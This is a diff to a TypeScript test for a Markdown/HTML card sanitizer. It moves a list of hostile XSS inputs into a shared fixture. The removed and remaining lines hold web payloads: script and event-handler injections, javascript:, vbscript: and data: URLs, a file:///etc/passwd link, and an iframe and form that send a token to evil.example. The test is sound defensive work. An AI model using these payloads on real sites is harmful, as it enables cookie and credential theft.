@@ -1,6 +1,7 @@
 import { strict as assert } from 'node:assert';
 import { escapeHtml, renderCard, usesOnlyAllowedMarkup } from '../../../src/hub/cardSanitizer';
 import { safeLinkUrl } from '../../../src/hub/safeUrl';
+import { HOSTILE_MARKDOWN } from '../../fake-hf/hostileMarkdown';
 
 // The Hub base URL card links resolve against: the fake server's form (tests reach only 127.0.0.1).
 const BASE = 'http://127.0.0.1:5555/evil-org/hostile-card/blob/main/';
@@ -42,39 +43,9 @@ tags:
 ---
 # Hostile card <script>alert('title')</script>
 
-<script>alert(document.cookie)</script>
+${HOSTILE_MARKDOWN}
 
-<img src="x" onerror="alert('onerror')">
-
-[click me](javascript:alert('markdown-link'))
-
-<a href="javascript:alert('html-link')">html link</a>
-
-[mixed](JaVaScRiPt:alert('mixed-case')) [tab](java\tscript:alert(1)) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd)
-
-<iframe src="https://evil.example/steal" width="800" height="600"></iframe>
-
-![huge image](https://evil.example/huge.png)
-
-<img src="https://evil.example/huge.png" width="100000" height="100000" style="width:100000px;height:100000px">
-
-<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999" onclick="alert('overlay')">overlay</div>
-
-<svg onload="alert('svg')"><circle r="10"/></svg>
-
-<form action="https://evil.example/collect"><input name="token" value="steal-me"><button>Submit</button></form>
-
-<meta http-equiv="refresh" content="0;url=https://evil.example">
-
-<style>body { display: none !important; }</style>
-
-<object data="javascript:alert('object')"></object>
-
-<embed src="javascript:alert('embed')">
-
-[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
-
-<details open ontoggle="alert('ontoggle')"><summary>details</summary>body</details>
+[mixed](JaVaScRiPt:alert('mixed-case')) [tab](java\\tscript:alert(1)) [vb](vbscript:msgbox(1)) [file](file:///etc/passwd)
 
 inline <pre>x<img src=x onerror=alert('raw-block')//</pre> and <span onmouseover="alert(1)">span</span> <!-- comment -->
 
